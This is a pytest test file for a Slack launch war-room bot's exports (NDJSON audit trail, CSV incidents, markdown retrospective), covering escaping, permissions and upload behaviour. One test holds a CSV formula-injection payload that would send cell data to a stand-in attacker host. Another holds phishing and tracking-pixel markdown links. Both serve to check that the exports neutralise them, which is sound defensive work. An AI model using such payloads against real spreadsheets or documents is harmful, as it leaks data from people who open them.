"""The record: ndjson audit trail, csv incidents, md retrospective, `/export` and `python -m bot export`."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest

from bot.config import Env
from bot.exporting import find_record, run_export
from commands.context import Context, record
from commands.files import md_inline
from commands.setup import ensure_launch
from db.models import Decision, Launch, OutboxMessage, Poll, ProbeResult, Rollback, RollbackStep, Vote
from db.session import transaction
from tests.harness import SECRET, TOKEN, Harness

NASTY = 'Checkout, "cart" & <!channel> at 50%\nsecond line'


def cli_env(url: str) -> Env:
    return Env(bot_token=TOKEN, signing_secret=SECRET, app_token=None, api_url="http://127.0.0.1:9/api/",
               database_url=url, config_path=None, port=0, log_level="INFO")


def export_via_cli(bot: Harness, fmt: str, tmp_path: Path, launch: str | None = None) -> str:
    out = tmp_path / f"export.{fmt}"
    assert run_export(cli_env(bot.env.database_url), fmt, launch or bot.config.launch_name, str(out),
                      database=bot.env.database_url) == 0
    return out.read_text(encoding="utf-8")


def launch_row(bot: Harness, name: str | None = None) -> Launch:
    from sqlmodel import select

    with bot.session() as s:
        return s.exec(select(Launch).where(Launch.name == (name or bot.config.launch_name))).one()


def a_day(bot: Harness) -> None:
    """Incidents worked every way, a refusal, a failed delivery, and the other families' records."""
    bot.slash("/incident", "sev1 checkout 500s | impact: operators blocked")
    bot.slash("/incident", "sev2 " + NASTY, user="U0CX")
    bot.deliver()
    bot.clock.advance(timedelta(minutes=3))
    bot.block_actions("incident_ack", "1", user="U0ENG")
    bot.slash("/incident", "update INC-1 rolled back the config", user="U0ENG")
    bot.slash("/incident", "owner INC-2 <@U0ENG>")  # the commander hands it over
    bot.slash("/incident", "resolve INC-2", user="U0SCRIBE")  # refused: not the owner or the commander
    bot.clock.advance(timedelta(minutes=10))
    bot.slash("/incident", "sev INC-1 sev2")
    bot.slash("/incident", "resolve INC-1 fixed")
    bot.standin.fail("chat.postMessage", error="channel_not_found", channel="C0WARROOM")
    bot.deliver()
    launch = launch_row(bot)
    first_incident = bot.incidents()[0].id  # looked up before the transaction: it writes as it goes
    with transaction(bot.runtime.engine) as session:
        ctx = Context(session=session, now=bot.clock.now(), config=bot.config, user="U0COMMANDER", launch=launch)
        # what the commander's console and the timers record (issues 3 and 4) goes through the same helper
        for kind in ("decision.recorded", "gonogo.vote", "signoff.recorded", "role.changed", "rollback.step_done",
                     "heartbeat.posted"):
            record(ctx, kind, text=f"{kind} text")
        record(ctx, "incident.escalated", incident_id=first_incident, level=1, to="U0ENG")


def test_ndjson_has_every_kind_of_event_in_time_order(bot: Harness, tmp_path: Path) -> None:
    a_day(bot)
    bot.slash("/export", "ndjson")
    text = export_via_cli(bot, "ndjson", tmp_path)
    lines = [json.loads(line) for line in text.splitlines()]
    assert text.endswith("\n") and len(lines) == len(text.splitlines())
    kinds = {line["kind"] for line in lines}
    for kind in ("launch.created", "role.configured", "incident.declared", "incident.acknowledged", "incident.updated",
                 "incident.owner_changed", "incident.severity_changed", "incident.resolved", "command.refused",
                 "decision.recorded", "gonogo.vote", "signoff.recorded", "role.changed", "rollback.step_done",
                 "heartbeat.posted", "incident.escalated", "export.requested", "outbox.sent", "outbox.failed",
                 "outbox.undeliverable"):
        assert kind in kinds, kind
    for line in lines:
        assert set(line) == {"ts", "launch", "rehearsal", "source", "id", "kind", "actor", "incident", "payload"}
        assert line["ts"].endswith("Z") and line["launch"] == "HotDash Control Center" and line["rehearsal"] is False
    assert [line["ts"] for line in lines] == sorted(line["ts"] for line in lines)
    declared = [line for line in lines if line["kind"] == "incident.declared"]
    assert [d["incident"] for d in declared] == ["INC-1", "INC-2"]
    assert declared[1]["payload"]["summary"] == NASTY and declared[1]["actor"] == "U0CX"
    refused = next(line for line in lines if line["kind"] == "command.refused")
    assert refused["actor"] == "U0SCRIBE" and refused["payload"]["command"] == "/incident resolve"
    failed = [line for line in lines if line["kind"] == "outbox.failed"]
    assert failed[0]["payload"]["error"] == "channel_not_found" and failed[0]["payload"]["channel"] == "C0WARROOM"
    sent = next(line for line in lines if line["kind"] == "outbox.sent")
    assert sent["payload"]["attempts"] == 1 and sent["payload"]["slack_ts"] and "text" in sent["payload"]
    assert TOKEN not in text and SECRET not in text


def test_csv_round_trips_commas_quotes_and_newlines(bot: Harness, tmp_path: Path) -> None:
    a_day(bot)
    rows = list(csv.DictReader(io.StringIO(export_via_cli(bot, "csv", tmp_path), newline="")))
    assert [r["id"] for r in rows] == ["INC-1", "INC-2"]
    first, second = rows
    assert second["summary"] == NASTY
    assert first["severity"] == "sev2" and first["status"] == "resolved" and first["owner"] == "U0COMMANDER"
    assert first["time_to_acknowledge_s"] == "180" and first["time_to_resolve_s"] == "780"
    assert second["acknowledged"] == "" and second["resolved"] == "" and second["owner"] == "U0ENG"
    assert first["declared"].endswith("Z") and first["escalations"] == "0"


def test_md_retrospective_figures_and_plain_escaping(bot: Harness, tmp_path: Path) -> None:
    a_day(bot)
    launch = launch_row(bot)
    t0 = bot.config.t0
    assert t0 is not None
    with transaction(bot.runtime.engine) as s:
        s.add(Decision(launch_id=launch.id, kind="checkpoint", text="continue & widen <later>", actor="U0COMMANDER",
                       created_at=t0 + timedelta(hours=1)))
        poll = Poll(launch_id=launch.id, kind="gonogo", opened_by="U0COMMANDER", opened_at=t0 - timedelta(minutes=30),
                    closed_at=t0 - timedelta(minutes=20), outcome="go", roles=["commander", "eng_oncall", "exec"])
        s.add(poll)
        s.flush()
        s.add(Vote(poll_id=poll.id, role="commander", user_id="U0COMMANDER", choice="go", cast_at=t0))
        s.add(Vote(poll_id=poll.id, role="eng_oncall", user_id="U0ENG", choice="go", reason="metrics | green",
                   cast_at=t0))
        rollback = Rollback(launch_id=launch.id, reason="errors", requested_by="U0COMMANDER", requested_at=t0,
                            status="confirmed")
        s.add(rollback)
        s.flush()
        s.add(RollbackStep(rollback_id=rollback.id, position=1, text="Disable the flag", done_by="U0ENG", done_at=t0))
        s.add(RollbackStep(rollback_id=rollback.id, position=2, text="Run the rollback script"))
        s.add(ProbeResult(launch_id=launch.id, probe="app", checked_at=t0 + timedelta(minutes=29), ok=True,
                          latency_ms=123.4))
        s.add(ProbeResult(launch_id=launch.id, probe="app", checked_at=t0 + timedelta(minutes=59), ok=False,
                          error="ConnectError"))
        for minutes in (30, 60):
            s.add(OutboxMessage(launch_id=launch.id, kind="heartbeat", channel="C0WARROOM",
                                payload={"text": "Status Update"}, created_at=t0 + timedelta(minutes=minutes)))
    md = export_via_cli(bot, "md", tmp_path)
    assert md.startswith("# Retrospective: HotDash Control Center\n")
    row = next(line for line in md.splitlines() if line.startswith("| INC-1 |"))
    assert "(3m)" in row and "(13m)" in row  # acknowledged after 3 minutes, resolved after 13
    assert "Mean time to acknowledge (MTTA): 3m" in md and "MTTR): 13m" in md
    # user text is written as typed (no Slack &amp;), with markdown's own breakers escaped
    assert md_inline(NASTY) in md and "&amp;" not in md and "&lt;" not in md
    assert "Checkout, \"cart\" & \\<!channel\\> at 50% second line" in md
    assert "**checkpoint** by @U0COMMANDER (commander): continue & widen \\<later\\>" in md
    assert "**GO**" in md and "missing: exec" in md and "metrics \\| green" in md
    assert "[x] Disable the flag" in md and "Rollback #1: step 2 not ticked: Run the rollback script" in md
    assert "| 10:30 | T+30m | 1 | 123 ms |" in md  # INC-2 still open; the probe's latest reading at that time
    assert "| 11:00 | T+1h | 1 | failed (ConnectError) |" in md
    assert "- [ ] Close INC-2 \\[High\\]" in md and "incident.escalated" in md  # shown as [High]


def test_a_launch_with_no_events_exports_cleanly(bot: Harness, tmp_path: Path) -> None:
    with transaction(bot.runtime.engine) as s:
        ensure_launch(s, bot.config, bot.clock.now(), name="Quiet launch")
    ndjson = export_via_cli(bot, "ndjson", tmp_path, "Quiet launch")
    assert [json.loads(line)["kind"] for line in ndjson.splitlines()] == ["launch.created"] + ["role.configured"] * 6
    rows = list(csv.reader(io.StringIO(export_via_cli(bot, "csv", tmp_path, "Quiet launch"))))
    assert len(rows) == 1 and rows[0][0] == "id"
    md = export_via_cli(bot, "md", tmp_path, "Quiet launch")
    assert "No incidents were declared." in md and "No heartbeats were posted." in md and "Nothing was recorded" in md


def test_cli_names_unknown_launches_and_missing_records(bot: Harness, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    assert run_export(cli_env(bot.env.database_url), "ndjson", "No such launch", None,
                      database=bot.env.database_url) == 1
    assert "launches there: HotDash Control Center" in capsys.readouterr().err
    empty = tmp_path / "empty"
    empty.mkdir()
    monkeypatch.chdir(empty)
    monkeypatch.delenv("DATABASE_URL", raising=False)
    assert find_record(None) == (None, "no warroom.db or rehearsal.db here")
    assert run_export(cli_env("sqlite:///warroom.db"), "ndjson", None, None) == 1
    assert "nothing to export" in capsys.readouterr().err
    assert not (empty / "warroom.db").exists()


def test_export_command_uploads_the_file(bot: Harness) -> None:
    bot.slash("/incident", "sev2 " + NASTY)
    r = bot.slash("/export", "csv", user="U0CX")
    assert "it will appear in the war room" in r.json()["text"]
    bot.deliver()
    url_calls = bot.standin.calls_to("files.getUploadURLExternal")
    complete = bot.standin.calls_to("files.completeUploadExternal")
    assert len(url_calls) == 1 and len(complete) == 1 and len(bot.standin.attempts("upload")) == 1
    assert url_calls[0].args["filename"].endswith(".csv")
    assert complete[0].args["channel_id"] == "C0WARROOM"
    assert "requested by <@U0CX>" in complete[0].args["initial_comment"]
    uploaded = next(iter(bot.standin.uploads.values())).decode()
    rows = list(csv.DictReader(io.StringIO(uploaded, newline="")))
    assert rows[0]["summary"] == NASTY
    assert [m.status for m in bot.outbox() if m.method == "files.upload"] == ["sent"]
    assert bot.events("export.requested")[0].payload["format"] == "csv"


@pytest.mark.parametrize("text", ["", "pdf", "ndjson csv", "<!channel>", "x" * 5000])
def test_export_bad_input_changes_nothing(bot: Harness, text: str) -> None:
    r = bot.slash("/export", text)
    reply = r.json()["text"]
    assert "/export ndjson|csv|md" in reply and "<!channel>" not in reply
    bot.deliver()
    assert bot.events() == [] and bot.outbox() == [] and bot.standin.calls_to("files.getUploadURLExternal") == []


def test_export_upload_failure_is_kept_and_reported(bot: Harness) -> None:
    bot.standin.fail("files.completeUploadExternal", error="not_in_channel")
    bot.slash("/export", "md", channel="C0OTHER")
    bot.deliver()
    failed = [m for m in bot.outbox() if m.method == "files.upload"]
    assert failed[0].status == "failed" and failed[0].error == "not_in_channel"
    # the file was for the war room itself: the failure is kept on the audit trail (and logged)
    assert [e.payload["error"] for e in bot.events("outbox.undeliverable")] == ["not_in_channel"]


def test_only_role_holders_export_and_always_to_the_war_room(bot: Harness) -> None:
    bot.slash("/incident", "sev2 search slow")
    r = bot.slash("/export", "ndjson", user="U0OUTSIDER", channel="C0OPERATORS")
    assert "Only role holders can export" in r.json()["text"]
    assert [m for m in bot.outbox() if m.method == "files.upload"] == []
    assert bot.events("command.refused")[0].payload["command"] == "/export"
    bot.slash("/export", "ndjson", user="U0CX", channel="C0OPERATORS")  # a role holder, from the broadcast channel
    bot.deliver()
    (complete,) = bot.standin.calls_to("files.completeUploadExternal")
    assert complete.args["channel_id"] == "C0WARROOM"


def test_csv_cells_never_run_as_formulas(bot: Harness) -> None:
    formula = '=HYPERLINK("https://evil.example/?x="&B2,"Click")'
    bot.slash("/incident", "sev2 " + formula)
    bot.slash("/incident", "sev3 @SUM(1+1)")
    bot.slash("/export", "csv")
    bot.deliver()
    uploaded = next(iter(bot.standin.uploads.values())).decode()
    summaries = [row["summary"] for row in csv.DictReader(io.StringIO(uploaded, newline=""))]
    assert summaries == ["'" + formula, "'@SUM(1+1)"]


def test_user_text_forms_no_link_or_image_in_the_retrospective(bot: Harness) -> None:
    from markdown_it import MarkdownIt

    bot.slash("/incident", "sev2 see [the runbook](https://evil.example/phish) ![x](https://evil.example/pixel.png)")
    bot.slash("/incident", "update INC-1 mail evil@example.com or https://evil.example/x or www.evil.example")
    bot.slash("/export", "md")
    bot.deliver()
    retro = next(iter(bot.standin.uploads.values())).decode()
    html = MarkdownIt("gfm-like").render(retro)
    assert "evil.example" in html  # the text is there, as text
    assert "evil.example" not in "".join(part for part in html.split("<a ")[1:]) and "<img" not in html


# -- built at send time ---------------------------------------------------------------------

def stored_upload_bytes(bot: Harness) -> list[int]:
    """What each export's outbox row holds, as the database stores it (its JSON payload's length)."""
    from sqlalchemy import String, cast, func
    from sqlmodel import select

    with bot.session() as s:
        return [int(n) for n in s.exec(select(func.length(cast(OutboxMessage.payload, String)))
                                       .where(OutboxMessage.method == "files.upload")).all()]


def test_forty_exports_store_what_to_build_not_the_files(bot: Harness) -> None:
    for i in range(10):  # a record worth exporting: each file is tens of kilobytes
        bot.slash("/incident", f"sev3 slow page {i} " + "details " * 40)
        for k in range(3):
            bot.slash("/incident", f"update INC-{i + 1} step {k} " + "findings " * 40)
    bot.deliver()
    holders = ["U0COMMANDER", "U0CX", "U0ENG", "U0SCRIBE"]
    for i in range(40):
        r = bot.slash("/export", ("ndjson", "csv", "md", "ndjson")[i % 4], user=holders[i % 4])
        assert "it will appear in the war room" in r.json()["text"]
    queued = stored_upload_bytes(bot)
    assert len(queued) == 40 and max(queued) < 1000  # format, launch, requester, the comment: no file
    assert bot.standin.calls_to("files.getUploadURLExternal") == []  # nothing built or sent yet
    bot.deliver()
    files = list(bot.standin.uploads.values())
    assert len(files) == 40 and len(bot.standin.shared_files) == 40
    assert sum(len(f) for f in files) > 40 * 10_000  # the files were large ...
    stored = stored_upload_bytes(bot)
    assert max(stored) < 1000 and sum(stored) < sum(len(f) for f in files) / 100  # ... and never stored
    rows = [m for m in bot.outbox() if m.method == "files.upload"]
    assert all(m.status == "sent" and "content" not in m.payload for m in rows)
    assert sorted(m.payload["bytes"] for m in rows) == sorted(len(f) for f in files)  # the record keeps the size


def test_an_export_shows_the_record_as_it_is_when_it_is_sent(bot: Harness) -> None:
    bot.slash("/incident", "sev2 checkout slow")
    bot.slash("/export", "csv", user="U0CX")
    bot.slash("/export", "ndjson", user="U0CX")
    # after the request, before the outbox sends it
    bot.slash("/incident", "sev3 search slow", user="U0ENG")
    bot.clock.advance(timedelta(minutes=7))
    bot.slash("/incident", "resolve INC-1 fixed")
    bot.deliver()
    csv_file, ndjson_file = (bot.standin.uploads[c.args["file_id"]].decode() for c in bot.standin.attempts("upload"))
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(csv_file, newline=""))}
    assert set(rows) == {"INC-1", "INC-2"}
    assert rows["INC-1"]["status"] == "resolved" and rows["INC-1"]["time_to_resolve_s"] == "420"
    kinds = [json.loads(line)["kind"] for line in ndjson_file.splitlines()]
    assert kinds.count("incident.declared") == 2 and "incident.resolved" in kinds
    requested = bot.events("export.requested")
    assert [e.payload["format"] for e in requested] == ["csv", "ndjson"] and "bytes" not in requested[0].payload
